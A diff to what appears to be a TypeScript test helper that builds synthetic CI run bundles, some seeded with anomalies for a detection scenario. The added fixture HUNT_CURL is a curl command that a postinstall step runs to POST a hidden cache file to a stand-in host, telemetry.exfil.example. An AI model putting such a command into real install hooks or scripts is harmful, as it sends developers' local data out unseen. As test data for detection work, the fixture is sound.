@@ -8,10 +8,11 @@ import { createHash, randomBytes } from 'node:crypto';
 import fs from 'node:fs';
 import os from 'node:os';
 import path from 'node:path';
+import { fileURLToPath } from 'node:url';
 import { writeRunBundle, type RunSpec } from '../../scripts/make-run-bundles';
 import { runImport } from '../../electron/import/run-import';
 
-const ROOT = path.resolve(__dirname, '..', '..');
+const ROOT = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..', '..');
 
 export interface RunCase {
   name: string;
@@ -51,9 +52,22 @@ export async function runCases(specs: Record<string, RunSpec>): Promise<{ dir: s
   return { dir, runs: list(dir) };
 }
 
-/** `count` good runs (seeds 1…count); every `extraEvery`th also calls `extraEndpoint`. */
-export function manyRunSpecs(count: number, extraEvery: number, extraEndpoint: string): Record<string, RunSpec> {
+export const HUNT_ENDPOINT = 'telemetry.exfil.example:443';
+export const HUNT_CURL = { exe: '/usr/bin/curl', args: ['curl', '-sS', '-X', 'POST', '--data-binary', '@/tmp/.npm-cache-8f3a.json', 'https://telemetry.exfil.example/v2/collect'] };
+export const HUNT_OTHER_SHA = 'b4ffe1c0e7d1a3f2c9e8d7b6a5f4e3d2c1b0a9f8';
+
+/**
+ * `count` runs (seeds 1…count): every `extraEvery`th run's postinstall also runs curl to HUNT_ENDPOINT; every
+ * `shaEvery`th uses another commit of actions/checkout.
+ */
+export function manyRunSpecs(count: number, extraEvery = 7, shaEvery = 50): Record<string, RunSpec> {
   const specs: Record<string, RunSpec> = {};
-  for (let i = 1; i <= count; i++) specs[`run-${String(i).padStart(4, '0')}`] = { seed: i, ...(i % extraEvery === 0 ? { extraEndpoints: [extraEndpoint] } : {}) };
+  for (let i = 1; i <= count; i++) {
+    specs[`run-${String(i).padStart(4, '0')}`] = {
+      seed: i,
+      ...(i % extraEvery === 0 ? { extraEndpoints: [HUNT_ENDPOINT], extraProcess: HUNT_CURL } : {}),
+      ...(i % shaEvery === 0 ? { checkoutSha: HUNT_OTHER_SHA } : {}),
+    };
+  }
   return specs;
 }
